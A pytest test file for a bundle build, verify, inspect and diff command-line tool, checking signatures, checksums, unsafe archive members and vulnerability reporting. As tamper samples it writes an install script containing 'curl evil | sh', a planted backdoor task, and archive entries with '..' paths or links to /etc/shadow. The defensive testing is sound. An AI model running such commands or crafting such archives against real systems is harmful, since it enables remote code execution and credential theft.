"""`gateway bundle build|verify|inspect|diff` on small bundles built by the real build.py."""

from __future__ import annotations

import json
import os
import shutil
import tarfile
from pathlib import Path

import pytest

from gateway.cli import main
from gateway.sums import list_files, sha256_file, write_sums
from gateway.supply.inventory import image_digests, vulnerability_lines
from gateway.supply.reader import read_bundle
from gateway.supply.verify import load_public_key
from tests.bundle import synthetic
from tests.bundle.test_sbom import _oci_archive

SIG = "SHA256SUMS.sig"


def gateway(capsys, *argv) -> tuple[int, str, str]:
    code = main(["bundle", *map(str, argv)])
    out, err = capsys.readouterr()
    return code, out, err


def resum(directory: Path) -> None:
    """SHA256SUMS over the files as they are now (the signature then no longer matches)."""
    write_sums(directory, {p: sha256_file(directory / p) for p in list_files(directory) if p != SIG})


# -- verify ------------------------------------------------------------------------------------
def test_a_good_bundle_verifies_as_a_tarball_and_unpacked(capsys, built, pubkey, unpacked):
    code, out, _ = gateway(capsys, "verify", built, "--pubkey", pubkey)
    assert code == 0, out
    assert "match SHA256SUMS, nothing unlisted; signature good" in out
    fingerprint = load_public_key(pubkey)[1]  # the one build.py prints
    assert fingerprint in out
    code, out, _ = gateway(capsys, "verify", unpacked, "--pubkey", pubkey)
    assert code == 0 and fingerprint in out


@pytest.mark.parametrize("damage, named", [
    (lambda d: (d / "ansible/site.yml").write_text("- hosts: all\n"), "ansible/site.yml: altered"),
    (lambda d: (d / "wheelhouse/linux-arm64/demo_pkg-1.0-py3-none-any.whl").unlink(),
     "wheelhouse/linux-arm64/demo_pkg-1.0-py3-none-any.whl: listed in SHA256SUMS but missing"),
    (lambda d: (d / "ansible/roles/common/tasks/backdoor.yml").write_text("- command: id\n"),
     "ansible/roles/common/tasks/backdoor.yml: not listed in SHA256SUMS"),
    (lambda d: (d / "empty").mkdir(), "empty/: a directory with no listed file"),
    (lambda d: ((d / "README.md").unlink(), (d / "README.md").symlink_to("/etc/hostname")),
     "README.md: a link or special file"),
    (lambda d: (d / SIG).unlink(), f"{SIG}: missing"),
])
def test_a_tampered_bundle_is_refused_and_the_problem_named(capsys, pubkey, unpacked, damage, named):
    damage(unpacked)
    code, out, err = gateway(capsys, "verify", unpacked, "--pubkey", pubkey)
    assert code == 1 and out == ""
    assert "refused, nothing may be installed" in err and named in err


def test_a_listing_rewritten_to_match_fails_the_signature(capsys, pubkey, unpacked):
    (unpacked / "ansible/site.yml").write_text("- hosts: all\n")
    resum(unpacked)
    code, _, err = gateway(capsys, "verify", unpacked, "--pubkey", pubkey)
    assert code == 1 and "bad signature" in err
    # inspect without a key checks the listing only, and says the signature was not checked
    code, out, _ = gateway(capsys, "inspect", unpacked)
    assert code == 0 and "signature NOT checked" in out


def test_another_key_is_refused(capsys, built, tmp_path):
    other = synthetic.make_key(tmp_path / "other.pem").with_suffix(".pub.pem")
    code, _, err = gateway(capsys, "verify", built, "--pubkey", other)
    assert code == 1 and "bad signature: SHA256SUMS.sig does not verify SHA256SUMS" in err


@pytest.mark.parametrize("name, kind, named", [
    ("../evil", tarfile.REGTYPE, "has an absolute path or '..'"),
    (f"{synthetic.TOP}/link", tarfile.SYMTYPE, "link: a link or special file"),
    ("elsewhere/x", tarfile.REGTYPE, "is outside the top directory"),
])
def test_an_archive_unsafe_to_unpack_is_refused(capsys, built, pubkey, tmp_path, name, kind, named):
    members = []
    with synthetic.read_tar(built) as tar:
        for info in tar:
            members.append((info, tar.extractfile(info).read() if info.isfile() else None))
    bad = tarfile.TarInfo(name)
    bad.type = kind
    bad.linkname = "/etc/shadow" if kind == tarfile.SYMTYPE else ""
    members.append((bad, b"" if kind == tarfile.REGTYPE else None))
    code, _, err = gateway(capsys, "verify", synthetic.make_tar_zst(tmp_path / "bad.tar.zst", members),
                           "--pubkey", pubkey)
    assert code == 1 and named in err


def test_unreadable_input_is_a_usage_error_with_a_clear_message(capsys, built, pubkey, tmp_path):
    truncated = tmp_path / "cut.tar.zst"
    truncated.write_bytes(built.read_bytes()[:2000])
    code, _, err = gateway(capsys, "verify", truncated, "--pubkey", pubkey)
    assert code == 2 and "cut.tar.zst" in err
    code, _, err = gateway(capsys, "verify", tmp_path / "nope.tar.zst", "--pubkey", pubkey)
    assert code == 2 and "no such bundle file or directory" in err
    code, _, err = gateway(capsys, "verify", built, "--pubkey", built)
    assert code == 2 and "not a public key in PEM form" in err


# -- inspect -----------------------------------------------------------------------------------
def test_inspect_shows_info_parts_versions_sboms_and_the_vulnerability_report(capsys, built, pubkey):
    code, out, _ = gateway(capsys, "inspect", built, "--pubkey", pubkey, "--versions")
    assert code == 0
    for expected in ("bundle gateway-appliance-0.1.0", "VERSION=0.1.0", "signature good",
                     "wheelhouse/linux-amd64", "linux-amd64 nftables 1.0", "wheelhouse/linux-arm64 demo-pkg 1.0",
                     "linux-arm64 otelcol 1.0", "sbom/python-runtime-linux-amd64.cdx.json: 2 components",
                     "vulnerabilities (reports/vulnerabilities.json):", "0 unwaived"):
        assert expected in out, expected
    code, out, _ = gateway(capsys, "inspect", built, "--json")
    doc = json.loads(out)
    assert doc["versions"]["Debian packages"] == {"linux-amd64 nftables": "1.0", "linux-arm64 nftables": "1.0"}
    assert doc["signature_checked"] is False and doc["vulnerabilities"]["findings"] == []


def test_inspect_lists_unwaived_findings(capsys, unpacked):
    report = {"generated": "2026-12-01T00:00:00Z", "source": "test", "not_checked": ["Debian packages"],
              "findings": [
                  {"package": "jinja2", "version": "3.1.3", "id": "GHSA-h5c8-rqwp-cp95", "aliases": ["CVE-2024-22195"],
                   "fix_versions": ["3.1.4"], "waived": False, "reason": "", "expiry": ""},
                  {"package": "idna", "version": "3.6", "id": "PYSEC-2024-60", "aliases": [], "fix_versions": ["3.7"],
                   "waived": True, "reason": "not reachable", "expiry": "2027-01-01"}]}
    (unpacked / "reports/vulnerabilities.json").write_text(json.dumps(report))
    resum(unpacked)
    code, out, _ = gateway(capsys, "inspect", unpacked)
    assert code == 0
    assert "2 findings, 1 waived, 1 unwaived; 1 parts not checked" in out
    assert "UNWAIVED jinja2 3.1.3: GHSA-h5c8-rqwp-cp95 (CVE-2024-22195); fixed in 3.1.4" in out
    assert "waived idna 3.6: PYSEC-2024-60 until 2027-01-01 (not reachable)" in out
    assert vulnerability_lines({})[0].endswith("0 findings, 0 waived, 0 unwaived; 0 parts not checked")


def test_image_digests_come_from_the_oci_index(tmp_path):
    archive = _oci_archive(tmp_path / "gateway-0.1.0-oci.tar")
    root = tmp_path / "b"
    (root / "images").mkdir(parents=True)
    shutil.copy(archive, root / "images" / archive.name)
    bundle = read_bundle(root)
    digests = image_digests("images/gateway-0.1.0-oci.tar", bundle.images["images/gateway-0.1.0-oci.tar"])
    assert sorted(digests) == ["images/gateway-0.1.0-oci.tar linux/amd64", "images/gateway-0.1.0-oci.tar linux/arm64"]
    assert all(d.startswith("sha256:") for d in digests.values())
    assert bundle.files["images/gateway-0.1.0-oci.tar"] == sha256_file(archive)  # hashed whole while parsed


# -- diff --------------------------------------------------------------------------------------
def _next_release(repo: Path, tmp_path: Path, key: Path) -> Path:
    """The synthetic repository with one Debian package, one wheel, one vendored binary and a playbook changed."""
    new = tmp_path / "repo-next"
    shutil.copytree(repo, new, symlinks=True)
    apt = new / "dist/apt/linux-amd64"
    (apt / "nftables_1.0_amd64.deb").rename(apt / "nftables_1.0.6-2+deb12u2_amd64.deb")
    write_sums(apt)
    wh = new / "wheelhouse/dist/linux-arm64"
    synthetic.make_wheel(wh, "extra_pkg", "2.0", {"extra_pkg/__init__.py": ""})
    write_sums(wh)
    vendor = new / "vendor/dist"
    (vendor / "otelcol-1.0-linux-arm64").rename(vendor / "otelcol-1.1-linux-arm64")
    (new / "ansible/site.yml").write_text("- hosts: all\n  gather_facts: true\n  tasks: []\n")
    out = tmp_path / "dist-next"
    result = synthetic.build(new, out, key)
    assert result.returncode == 0, result.stderr
    return synthetic.bundle_path(out)


def test_diff_lists_versions_digests_and_files_that_change(capsys, repo, built, key, pubkey, tmp_path):
    code, out, _ = gateway(capsys, "diff", built, built, "--pubkey", pubkey)
    assert code == 0 and "no changes" in out
    newer = _next_release(repo, tmp_path, key)
    code, out, _ = gateway(capsys, "diff", built, newer, "--pubkey", pubkey)
    assert code == 0, out
    assert "~ linux-amd64 nftables 1.0 -> 1.0.6-2+deb12u2" in out
    assert "+ wheelhouse/linux-arm64 extra-pkg 2.0" in out
    assert "~ linux-arm64 otelcol 1.0 -> 1.1" in out
    assert "~ ansible/site.yml" in out
    assert "linux-amd64 otelcol" not in out  # unchanged items are not listed
    assert "  ~ SHA256SUMS\n" not in out and "BUNDLE-INFO" not in out  # differ between any two builds


def test_diff_refuses_a_tampered_new_bundle(capsys, built, pubkey, unpacked):
    (unpacked / "install.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    code, out, err = gateway(capsys, "diff", built, unpacked, "--pubkey", pubkey)
    assert code == 1 and "install.sh: altered" in err and out == ""


# -- build -------------------------------------------------------------------------------------
def test_build_through_the_cli_makes_the_same_bytes_as_build_py(capsys, repo, key, built, tmp_path, monkeypatch):
    monkeypatch.setenv("SOURCE_DATE_EPOCH", synthetic.EPOCH)
    out_dir = tmp_path / "dist"
    code, out, _ = gateway(capsys, "build", "--repo", repo, "--out-dir", out_dir, "--python-sbom", "builtin",
                           "--no-images", "--signing-key", key)
    assert code == 0, out
    assert sha256_file(synthetic.bundle_path(out_dir)) == sha256_file(built)


def test_build_errors_are_usage_errors_naming_the_input(capsys, repo, key, tmp_path, monkeypatch):
    monkeypatch.setenv("SOURCE_DATE_EPOCH", synthetic.EPOCH)
    broken = tmp_path / "repo"
    shutil.copytree(repo, broken, symlinks=True)
    os.remove(broken / "ansible/site.yml")
    code, _, err = gateway(capsys, "build", "--repo", broken, "--out-dir", tmp_path / "dist", "--no-images",
                           "--signing-key", key, "--python-sbom", "builtin")
    assert code == 2 and "site.yml: missing" in err
